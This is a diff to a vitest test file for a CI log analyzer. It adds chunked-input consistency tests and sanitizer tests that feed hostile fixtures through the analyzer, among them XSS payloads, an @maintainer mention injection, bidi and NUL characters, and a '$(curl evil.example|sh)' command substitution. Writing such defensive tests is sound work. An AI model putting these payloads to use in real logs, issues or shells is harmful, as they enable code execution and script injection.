@@ -1,9 +1,11 @@
 import { readFileSync } from 'node:fs';
 import { describe, expect, it } from 'vitest';
-import { wrapInCi } from '../../fixtures/src/ci-wrap.js';
+import { CI_WRAP_FORMATS, wrapInCi } from '../../fixtures/src/ci-wrap.js';
 import { listEcosystemCases } from '../../fixtures/src/ecosystems.js';
 import { type Analysis, analyzeLog } from '../src/analyzer/analyze.js';
+import { factLines, nextStep } from '../src/filing/issue-body.js';
 import { batchLine, DEFAULT_MAX_LINE_BYTES, LineSplitter } from '../src/log/lines.js';
+import { createSanitizer } from '../src/text/sanitize.js';
 
 /**
  * This session's analyzer changes attacked from outside, as a fork's job could: each test here
@@ -131,4 +133,89 @@ describe('Buildkite: a hook name printed by the command', () => {
       expect(a.findings[0]?.rule).toBe('pytest.failed');
     });
   }
+});
+
+describe('recorded logs fed in chunks', () => {
+  // The ecosystems this session's rules and structure changes touched, and the CI wrappings.
+  const touched = new Set([
+    'js',
+    'scala',
+    'dart',
+    'swift',
+    'elixir',
+    'php',
+    'octave',
+    'lisp',
+    'install',
+    'c',
+  ]);
+  const cases = listEcosystemCases().filter((c) => touched.has(c.ecosystem));
+
+  it('analyse alike whole and in chunks of 1, 7 and 4096 bytes, wrapped in each CI format too', async () => {
+    expect(cases.length).toBeGreaterThan(100);
+    let compared = 0;
+    for (const c of cases) {
+      const output = readFileSync(c.log, 'utf8');
+      const texts = [
+        output,
+        ...CI_WRAP_FORMATS.map((f) => wrapInCi(f, { command: c.command, output, exit: c.exit || 1 }).text),
+      ];
+      for (const [i, text] of texts.entries()) {
+        const bytes = Buffer.from(text);
+        const whole = result(await analyzeLog(bytes));
+        // Single bytes cost a push each: the small logs, unwrapped, are enough for the carry paths;
+        // the wrappings add their markup's boundaries at one odd size.
+        const sizes = i > 0 ? [7] : bytes.length < 8192 ? [1, 7, 4096] : [7, 4096];
+        for (const size of sizes) {
+          expect(result(await analyzeLog(chunks(bytes, size))), `${c.id} #${i} in chunks of ${size}`).toEqual(
+            whole,
+          );
+          compared++;
+        }
+      }
+    }
+    expect(compared).toBeGreaterThan(1000);
+  }, 60_000);
+});
+
+describe("new rules' facts reach an issue only through the sanitizer", () => {
+  it('TeamCity escapes decoded into a test name (line breaks, bidi, NUL, a lone surrogate) stay inert', async () => {
+    const log =
+      "##teamcity[testFailed name='t|n## Pwned|n@maintainer |0x202e|0x0000|0xd800 <img src=x onerror=alert(1)>' message='boom']\n";
+    const a = await analyzeLog(log);
+    const f = a.findings[0]!;
+    expect(f.rule).toBe('teamcity.test-failed');
+    // The fact holds what the log encoded: the test below is about the output, not a lucky miss.
+    expect(f.facts?.tests?.[0]).toContain('\n## Pwned\n@maintainer \u202e\u0000\ud800');
+    const s = createSanitizer();
+    const items = factLines(s, f.facts);
+    const item = items.find((l) => l.includes('Pwned'))!;
+    expect(items.every((l) => !/[\r\n]/.test(l))).toBe(true);
+    expect(item).not.toMatch(/[\u0000\u202a-\u202e\u2066-\u2069]|[\ud800-\udfff]/);
+    expect(item).not.toMatch(/(^|[^\w`])@maintainer\b/);
+    expect(item).not.toMatch(/<img/);
+  });
+
+  it('paths, package and test names the new rules capture carry no live markup into facts or next steps', async () => {
+    const E =
+      '@maintainer <img src=x onerror=alert(1)> [x](javascript:alert(1)) $(curl evil.example|sh) #123';
+    const logs = [
+      `[!] CocoaPods could not find compatible versions for pod "${E}":\n  In Podfile:\n    X\n`,
+      `[info] - should ${E} *** FAILED ***\n[info]   1 did not equal 2 (X.scala:10)\n`,
+      `[error] /w/src/@maintainer<img>.scala:3:5: ${E}\n`,
+      `00:01 +0 -1: loading test/@maintainer<img>$(x).dart [E]\n`,
+      `::group::❌ ${E} (failed)\n`,
+      `lib/@maintainer<img>.dart:1:2: Error: ${E}\n`,
+      `src/@maintainer<b>x</b>.coffee:7:1: error: ${E}\n`,
+      `✘ Test ${E} recorded an issue at Evil.swift:9:5: ${E}\n`,
+    ];
+    const s = createSanitizer();
+    for (const log of logs) {
+      const a = await analyzeLog(log);
+      const f = a.findings[0]!;
+      expect(JSON.stringify(f.facts), log).toMatch(/@maintainer/);
+      const out = [...factLines(s, f.facts), nextStep(s, a.category, f.facts)].join('\n');
+      expect(out, log).not.toMatch(/(^|[^\w`])@maintainer\b|<img|<b>|\]\(javascript:|\$\(|(^|[^\w&`])#123\b/);
+    }
+  });
 });
